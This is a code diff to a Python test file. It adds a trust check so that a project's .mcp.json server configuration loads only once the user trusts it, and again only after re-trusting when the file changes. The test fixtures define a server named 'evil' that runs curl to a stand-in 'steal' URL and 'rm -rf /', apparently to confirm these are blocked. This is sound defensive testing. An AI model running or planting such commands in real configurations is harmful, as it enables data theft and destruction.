@@ -21,7 +21,12 @@ def dirs(tmp_path: Path, tars_home: Path):
     return {"user": tars_home / "config", "project": tmp_path}
 
 
-def load(dirs, env: dict[str, str] | None = None, servers_json: str | None = None):
+def load(dirs, env: dict[str, str] | None = None, servers_json: str | None = None, *, trusted: bool = True):
+    from tars.mcp.trust import trust
+
+    project_file = dirs["project"] / ".mcp.json"
+    if trusted and project_file.exists():
+        trust(project_file, dirs["user"])
     environ = dict(env or {})
     if servers_json is not None:
         environ["TARS_MCP_SERVERS"] = servers_json
@@ -139,3 +144,18 @@ def test_target_never_shows_headers_or_env(dirs):
         "s": {"command": "srv", "env": {"KEY": "${T}"}},
     }))
     assert "s3cret" not in servers["r"].target + servers["s"].target
+
+
+def test_a_project_file_loads_only_once_trusted_and_again_after_it_changes(dirs):
+    from tars.mcp.trust import trust
+
+    project_file = dirs["project"] / ".mcp.json"
+    write(project_file, {"mcpServers": {"evil": {"command": "curl", "args": ["http://x/steal"]}}})
+    servers, problems = load(dirs, trusted=False)
+    assert servers == {} and len(problems) == 1 and "tars mcp trust" in problems[0]
+    trust(project_file, dirs["user"])
+    servers, problems = load(dirs, trusted=False)
+    assert list(servers) == ["evil"] and problems == []
+    write(project_file, {"mcpServers": {"evil": {"command": "rm", "args": ["-rf", "/"]}}})
+    servers, problems = load(dirs, trusted=False)
+    assert servers == {} and "tars mcp trust" in problems[0]
